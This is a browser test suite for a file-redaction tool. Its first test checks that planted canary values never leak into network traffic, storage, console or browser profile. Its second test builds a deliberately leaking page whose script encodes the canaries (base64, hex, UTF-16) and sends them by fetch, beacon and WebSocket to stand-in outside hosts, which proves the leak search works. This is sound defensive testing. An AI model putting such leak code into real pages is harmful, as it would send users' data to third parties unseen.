// Canaries. Values and a file name, random in each run, go through the whole job in each engine. Afterwards they must be
// nowhere: not in a byte that any context sent, not in storage, console, title or history, not at the intake. A page
// that leaks on purpose shows that the same search would have found them.

import assert from 'node:assert/strict';
import { readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { findCanaries, letterWith, plantCanaries } from './harness/canary.js';
import { Page } from './harness/page.js';
import { plainSite } from './harness/plain-site.js';
import { Recorder, Sink } from './harness/recorder.js';
import { ENGINES, onStage, until } from './harness/stage.js';

/** Every byte of the browser's profile folder, its history, caches and databases included. */
async function profileBytes(folder) {
  const parts = [];
  for (const entry of await readdir(folder, { withFileTypes: true, recursive: true })) {
    if (!entry.isFile() || entry.name === 'net-log.json') continue;
    parts.push(Buffer.from(`${entry.name}\n`), await readFile(join(entry.path, entry.name)).catch(() => Buffer.alloc(0)));
  }
  return Buffer.concat(parts);
}

for (const Engine of ENGINES) {
  describe(`canaries in ${Engine.name}`, () => {
    test('nothing planted is found anywhere outside the page', { timeout: 180_000 }, onStage({}, async (stage, t) => {
      const planted = plantCanaries();
      const folder = await stage.folder('files');
      const paths = ['txt', 'json', 'csv', 'md'].map((extension) => join(folder, `${planted.fileName}.${extension}`));
      const letter = letterWith(planted);
      await writeFile(paths[0], letter);
      await writeFile(paths[1], JSON.stringify({ letter, values: Object.values(planted.values) }));
      await writeFile(paths[2], `what,value\n${Object.values(planted.values).map((value) => `x,"${value}"\n`).join('')}`);
      await writeFile(paths[3], `# Title\n\n${letter}`);
      // A file that fails must not be quoted by its error.
      const broken = join(folder, `${planted.fileName}-broken.json`);
      await writeFile(broken, `{"letter": ${JSON.stringify(letter)}, nonsense`);

      const browser = await stage.open(Engine);
      const page = new Page(browser, stage);
      await page.open();
      // The job is done on a second visit, with both service workers between the page and the intake.
      await page.copiesKept();
      await page.open();
      const copies = await page.copies();
      await page.words(planted.values.WORD);
      await page.addFiles(...paths, broken);
      const files = await page.allRead();
      assert.deepEqual(files.map(({ state }) => state), ['read', 'read', 'read', 'read', 'failed']);
      await page.click('file-remove', 4);
      await page.toReview();

      // By hand, the value that no detector knows; everything else that was found is redacted in one go.
      for (let file = 0; file < 4; file++) {
        await page.click('review-file', file);
        await until('the file', async () => (await page.attribute('review-file', 'aria-current', file)) === 'true');
        await page.addFinding(planted.values.BY_HAND, { everywhere: true });
      }
      await page.redactAll();
      await page.toConsent();
      await page.consent();
      await page.seal();
      const shown = (await page.outgoing()).join('\n');
      assert.ok(shown.includes('This sentence stays as it is.'), 'the text itself must go through');
      await page.send();

      assert.deepEqual(await page.copies(), copies, 'nothing was put among the copies of the page');
      const storage = await page.storage({ copies: true });
      const requests = browser.requests();
      const said = browser.console();
      const [bundle] = await stage.admitted();
      const netLog = await browser.close();
      const places = {
        'what the shell origin received': stage.shell.received,
        'what the work origin received': stage.work.received,
        'what any other address was asked': stage.sink.received,
        "the browser's requests": requests,
        "the browser's own record of its network": netLog,
        'storage, cookies, title and address': storage,
        'the console': said,
        "the browser's profile": await profileBytes(browser.profile),
        'the log of the intake': stage.intakeLog,
        'the folder of the intake': await stage.stored(),
        'the bundle': bundle.zip,
        'the receipt': JSON.stringify(bundle.receipt),
      };
      // Each place must hold what it is said to hold, or its silence means nothing.
      assert.ok(stage.shell.received.includes('This sentence stays as it is.'), 'the recorder saw the bundle pass');
      assert.ok(bundle.zip.includes('This sentence stays as it is.'));
      if (Engine.name === 'Chromium') {
        assert.ok(netLog.includes('This sentence stays as it is.'), 'the network record holds bodies');
        assert.ok(requests.includes('/v1/uploads'), 'the requests were seen');
      }
      assert.ok(storage.includes(stage.shell.origin));
      assert.ok(storage.includes(`${stage.work.origin}/work.js`), 'the copies of the page were searched');
      for (const [place, bytes] of Object.entries(places)) {
        t.diagnostic(`${place}: ${bytes.length} bytes searched`);
        assert.deepEqual(findCanaries(planted, bytes), [], `canaries in ${place}`);
      }
    }));

    test('a page that leaks is found out', { timeout: 90_000 }, async () => {
      const planted = plantCanaries();
      const letter = letterWith(planted);
      const files = {};
      const site = await plainSite(files);
      const recorder = await Recorder.start(site.port);
      const sink = await Sink.start();
      files['/'] = '<!doctype html><body><script type="module" src="/leak.js"></script>';
      files['/leak.js'] = `
        const letter = ${JSON.stringify(letter)}, values = ${JSON.stringify(Object.values(planted.values))}, name = ${JSON.stringify(planted.fileName)};
        const base64 = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
        const hex = (text) => [...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
        const ignore = (promise) => promise.catch(() => {});
        console.log(letter, name);
        document.title = values[0];
        localStorage.setItem('letter', values[1]);
        sessionStorage.setItem('letter', values[2]);
        document.cookie = 'mac=' + encodeURIComponent(values[3]);
        await new Promise((done) => { const r = indexedDB.open('leak', 1); r.onupgradeneeded = () => r.result.createObjectStore('s'); r.onsuccess = () => {
          r.result.transaction('s', 'readwrite').objectStore('s').put(values[5], 1); r.result.close(); done(); }; });
        await ignore(caches.open('leak').then((cache) => cache.put('/kept', new Response(values[6]))));
        await ignore(fetch('/address?' + encodeURIComponent(values[4])));
        await ignore(fetch('/body', { method: 'POST', body: letter }));
        await ignore(fetch('/base64', { method: 'POST', body: 'x' + base64('y' + letter) }));
        await ignore(fetch('/hex', { method: 'POST', body: hex(letter) }));
        await ignore(fetch('/wide', { method: 'POST', body: new Uint8Array(new Uint16Array([...letter].map((c) => c.codePointAt(0))).buffer) }));
        await ignore(fetch('/header', { headers: { 'X-Name': name } }));
        navigator.sendBeacon('/beacon', values[7]);
        await ignore(fetch('http://elsewhere.exit.test/?' + encodeURIComponent(values[8]), { mode: 'no-cors' }));
        new WebSocket('ws://socket.exit.test/' + encodeURIComponent(name));
        setTimeout(() => { document.body.dataset.done = 'true'; }, 500);`;
      const browser = await Engine.open({ sink: sink.port, direct: [recorder.port] });
      try {
        await browser.goto(`${recorder.origin}/`);
        await until('the leaks', () => browser.run('shell', 'return document.body.dataset.done === "true"'));
        const stand = { shell: recorder };
        const kept = await browser.run('shell', 'return JSON.stringify([document.title, document.cookie, { ...localStorage }, { ...sessionStorage }, await (await caches.match("/kept")).text()])');
        const said = browser.console();
        const requests = browser.requests();
        const netLog = await browser.close();
        const inOrigin = findCanaries(planted, stand.shell.received);
        for (const shape of ['as it is', 'percent-encoded', 'base64, shifted by 0', 'base64, shifted by 1', 'base64, shifted by 2', 'hex', 'UTF-16']) {
          assert.ok(inOrigin.some((found) => found.endsWith(`, ${shape}`)), `not found in the shape "${shape}": ${inOrigin.join('; ')}`);
        }
        assert.ok(inOrigin.includes('file name, as it is'), 'in a header');
        for (const kind of Object.keys(planted.values)) assert.ok(inOrigin.some((found) => found.startsWith(kind)), kind);
        assert.ok(findCanaries(planted, sink.received).length > 0, 'at another address');
        assert.ok(findCanaries(planted, kept).length >= 5, 'in storage');
        // WebKitGTK's test browser does not pass the console on.
        if (Engine.name !== 'WebKit') assert.ok(findCanaries(planted, said).length > 0, 'in the console');
        if (Engine.name === 'Chromium') {
          assert.ok(findCanaries(planted, requests).length > 0, 'in the requests');
          assert.ok(findCanaries(planted, netLog).length > 0, 'in the network record');
        }
        if (Engine.name !== 'WebKit') assert.ok(findCanaries(planted, await profileBytes(browser.profile)).length > 0, 'in the profile');
      } finally {
        await browser.close().catch(() => {});
        await browser.discard();
        await Promise.all([site.stop(), recorder.stop(), sink.stop()]);
      }
    });
  });
}
